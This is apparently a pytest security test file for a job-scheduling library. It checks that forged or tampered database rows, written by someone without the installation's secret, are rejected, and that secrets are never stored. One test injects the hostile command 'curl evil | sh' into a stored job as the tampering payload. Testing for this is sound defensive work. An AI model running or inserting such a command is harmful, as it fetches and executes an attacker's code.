"""Somebody who can write to the database, and has not the installation's secret, wants a command run."""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import TYPE_CHECKING, Any
from uuid import uuid4

import pytest

from aiohttp_jobs.engine.credentials import digest_of
from aiohttp_jobs.errors import NotFoundError
from aiohttp_jobs.model.api_key import ApiKey
from aiohttp_jobs.model.job import utc_now

from ..engine.embedded.test_templates import make_template
from ..engine.postgres.support import installation
from ..scheduling.support import make_schedule

pytest.importorskip("psycopg", reason="psycopg is missing: pip install 'aiohttp-jobs[postgres]'")

import psycopg

if TYPE_CHECKING:
    from aiohttp_jobs.engine.postgres.installation import PostgresInstallation


@pytest.fixture
def kept(postgres: str) -> Iterator[PostgresInstallation]:
    made = installation(postgres)
    made.open()
    yield made
    made.close()


@pytest.fixture
def attacker(postgres: str) -> Iterator[psycopg.Connection[Any]]:
    with psycopg.connect(postgres, autocommit=True) as connection:
        yield connection


def write(attacker: psycopg.Connection[Any], kind: str, record_id: str, record: dict[str, Any]) -> None:
    """A row as hosts write it, so that they look at it."""
    attacker.execute("UPDATE aiohttp_jobs.record_kinds SET number = number + 1 WHERE kind = %s", (kind,))
    attacker.execute(
        "INSERT INTO aiohttp_jobs.records (kind, record_id, user_id, changed_number, record)"
        " SELECT kind, %s, 'alice', number, %s::json FROM aiohttp_jobs.record_kinds WHERE kind = %s"
        " ON CONFLICT (kind, record_id) DO UPDATE"
        " SET record = excluded.record, changed_number = excluded.changed_number",
        (record_id, json.dumps(record), kind),
    )


@pytest.mark.parametrize("signature", [{}, {"Signature": None}, {"Signature": "hmac-sha256:" + 64 * "0"}])
async def test_a_row_of_their_own_is_nothing(
    kept: PostgresInstallation, attacker: psycopg.Connection[Any], signature: dict[str, Any]
) -> None:
    schedule, template = make_schedule(), make_template()
    secret = f"{uuid4()}.secret"
    key = ApiKey(
        key_id=secret.partition(".")[0],
        name="mine",
        user_id="root",
        roles=("debug",),
        created_at=utc_now(),
        sha256=digest_of(secret),
    )
    write(attacker, "schedule", schedule.schedule_id, schedule.to_record() | signature)
    write(attacker, "template", template.template_id, template.to_record() | signature)
    write(attacker, "api_key", key.key_id, key.to_record() | signature)
    assert kept.schedules.all() == []
    with pytest.raises(NotFoundError):
        kept.schedules.get(schedule.schedule_id)
    with pytest.raises(NotFoundError):
        kept.templates.change(template.template_id, lambda each: each)
    ring = await kept.api_keys.now()
    assert ring.find(secret, None) is None
    assert ring.get(key.key_id) is None
    with pytest.raises(NotFoundError):
        kept.api_keys.change(key.key_id, lambda each: each)


@pytest.mark.parametrize("is_known", [True, False])
def test_changing_a_users_row_makes_it_worth_nothing(
    kept: PostgresInstallation, attacker: psycopg.Connection[Any], is_known: bool
) -> None:
    schedule = make_schedule()
    kept.schedules.add(schedule)
    if is_known:
        assert kept.schedules.all() == [schedule]
    (record,) = attacker.execute("SELECT record FROM aiohttp_jobs.records").fetchone() or ({},)
    record["Job"]["Command"] = "curl evil | sh"
    write(attacker, "schedule", schedule.schedule_id, record)
    assert kept.schedules.all() == []
    with pytest.raises(NotFoundError):
        kept.schedules.get(schedule.schedule_id)


async def test_a_row_is_worth_nothing_in_another_place(
    kept: PostgresInstallation, attacker: psycopg.Connection[Any]
) -> None:
    """What is signed as one kind, or under one id, is not believed as another."""
    schedule = make_schedule()
    kept.schedules.add(schedule)
    (record,) = attacker.execute("SELECT record FROM aiohttp_jobs.records").fetchone() or ({},)
    write(attacker, "template", schedule.schedule_id, record)
    write(attacker, "api_key", schedule.schedule_id, record)
    write(attacker, "schedule", str(uuid4()), record)
    assert kept.templates.all() == []
    assert (await kept.api_keys.now()).get(schedule.schedule_id) is None
    assert kept.schedules.all() == [schedule]


def test_what_is_no_record_at_all_does_no_harm(
    kept: PostgresInstallation, attacker: psycopg.Connection[Any]
) -> None:
    schedule = make_schedule()
    kept.schedules.add(schedule)
    for nonsense in ([], "text", 1, None, {}, {"Signature": 5}, {"Signature": "\u0000"}):
        for kind in ("schedule", "template", "notice", "api_key"):
            write(attacker, kind, str(uuid4()), nonsense)  # type: ignore[arg-type]
    assert kept.schedules.all() == [schedule]
    assert kept.templates.all() == []
    assert kept.notices.all() == []
    assert kept.api_keys.all() == []


def test_the_secret_is_not_in_the_database(
    kept: PostgresInstallation, attacker: psycopg.Connection[Any]
) -> None:
    (fingerprint,) = attacker.execute(
        "SELECT secret_fingerprint FROM aiohttp_jobs.installation"
    ).fetchone() or ("",)
    assert "secret" not in fingerprint
    _, key = kept.api_keys.create(name="ci", user_id="alice", roles=["debug"])
    session, secret = kept.sessions.add("alice")
    rows = attacker.execute(
        "SELECT record::text FROM aiohttp_jobs.records"
        " UNION ALL SELECT record::text FROM aiohttp_jobs.sessions"
    ).fetchall()
    assert session.session_id in str(rows)
    assert key not in str(rows)
    assert secret not in str(rows)
